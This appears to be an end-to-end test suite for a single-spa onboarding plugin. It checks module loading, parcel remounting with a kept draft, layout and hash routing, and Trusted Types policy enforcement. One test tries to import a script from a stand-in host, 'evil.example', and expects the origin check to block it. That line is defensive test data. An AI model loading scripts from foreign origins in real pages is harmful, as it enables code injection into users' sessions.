import type * as SingleSpa from 'single-spa';
import { at, button, create } from '../../journeys/customer.ts';
import { expect } from '../../journeys/walk.ts';
import { part, type Here, type Run, type Runs } from '../run.ts';

const walk: Run = async ({ page, portal }) => {
  await page.goto(portal.link);
  await button(page, 'Get started now').click();
  await create(page);
  await expect(page).toHaveURL(`${portal.address}/home`);
  await expect(at(page, 'done')).toHaveCount(0);
};

/** What the page loaded of the plugin's and of single-spa's, by the folders it came from. */
const loaded = ({ page }: Here): Promise<string[]> =>
  page.evaluate(() =>
    performance
      .getEntriesByType('resource')
      .map(({ name }) => new URL(name).pathname)
      .filter((path) => /-\d\.\d+\.\d+/.test(path)),
  );

/** Runs in the page: the same parcel once more, for the same invitation, in an element of its own. */
async function mountAnother(): Promise<void> {
  const load = <T>(name: string): Promise<T> => import(name) as Promise<T>;
  const { mountRootParcel } = await load<typeof SingleSpa>('single-spa');
  const onboarding = await load<SingleSpa.ParcelConfig>('@rconnect/onboarding');
  const { props } = await load<{ props: object }>('/props.js');
  const { signIn } = await load<{ signIn: object }>('/sign-in.js');
  const domElement = document.body.appendChild(document.createElement('div'));
  domElement.id = 'another';
  const platform = { inviteUrl: '/api/InviteUser', companiesUrl: '/api/companies' };
  await mountRootParcel(onboarding, {
    ...{ ...props, signIn, platform, domElement },
    invitationId: '7ecbaadb-3c74-4d57-90aa-7d0678fd81f6',
  }).mountPromise;
}

export const loadingRuns: Runs = {
  async 'host-loading system'(here) {
    await here.portal.type(part(here.snippets, 'sh'));
    await here.portal.serve();
    await walk(here);
    expect(await loaded(here)).toContain('/onboarding-system-0.1.0/index.js');
    expect(await loaded(here)).toContain('/systemjs-6.15.1.js');
    const foreign = await here.page.evaluate(async () => {
      try {
        await System.import('https://evil.example/index.js');
        return 'loaded';
      } catch (error) {
        return String(error);
      }
    });
    expect(foreign).toContain('a script of another origin');
  },

  async 'host-loading parcel'({ page, portal }) {
    await portal.serve();
    await page.goto(portal.link);
    await button(page, 'Get started now').click();
    await page.getByLabel('Slogan').fill('Always precise');
    await expect(at(page, 'company')).toHaveAttribute('lang', 'en-GB');
    await page.evaluate(() => dispatchEvent(new CustomEvent('portal-language', { detail: 'de' })));
    await expect(at(page, 'company')).toHaveAttribute('lang', 'de');
    await expect(page.getByLabel('Firmenname')).toBeVisible();
    await expect(page.locator('[name="slogan"]')).toHaveValue('Always precise');

    // A second one of the same invitation begins with the first one's draft.
    const kept = (): Promise<unknown> => page.evaluate(() => sessionStorage.getItem('rconnect-onboarding:draft-1'));
    await expect.poll(kept).toContain('Always precise');
    await page.evaluate(mountAnother);
    const another = page.locator('#another');
    await button(another, 'Get started now').click();
    await expect(another.getByLabel('Slogan')).toHaveValue('Always precise');
  },

  async 'host-loading layout'(here) {
    const { page, portal, snippets } = here;
    await portal.type(part(snippets, 'sh'));
    await portal.serve();
    await page.goto(`${portal.address}/`);
    await expect(page.getByRole('main')).toBeAttached();
    await expect(at(page, 'invitation')).toHaveCount(0);
    await page.goto(portal.link);
    await expect(at(page.getByRole('main'), 'invitation')).toBeVisible();
    expect(await loaded(here)).toContain('/single-spa-layout-3.0.0.js');
    await walk(here);
  },

  async 'host-loading hash'({ page, portal }) {
    await portal.serve();
    await page.goto(`${portal.address}/#/onboarding?invitationId=7ecbaadb-3c74-4d57-90aa-7d0678fd81f6`);
    await button(page, 'Get started now').click();
    await expect(at(page, 'company')).toBeVisible();
    await expect(page).toHaveURL(`${portal.address}/#/onboarding`);
  },

  async 'host-loading svelte'({ page, portal, violations }) {
    await portal.serve();
    await page.goto(portal.link);
    await expect(at(page, 'invitation')).toBeVisible();
    const policies = page.evaluate(() =>
      ['svelte-trusted-html', 'another'].map((name) => {
        try {
          const { trustedTypes } = globalThis as {
            trustedTypes?: { createPolicy(name: string, rules: object): object };
          };
          return trustedTypes?.createPolicy(name, {}) ? 'made' : 'no Trusted Types';
        } catch {
          return 'refused';
        }
      }),
    );
    expect(await policies).toEqual(['made', 'refused']);
    await expect.poll(() => violations.found.length).toBe(2);
    for (const { text } of violations.take()) expect(text).toMatch(/\btrusted-?types?.*another/i);
  },
};
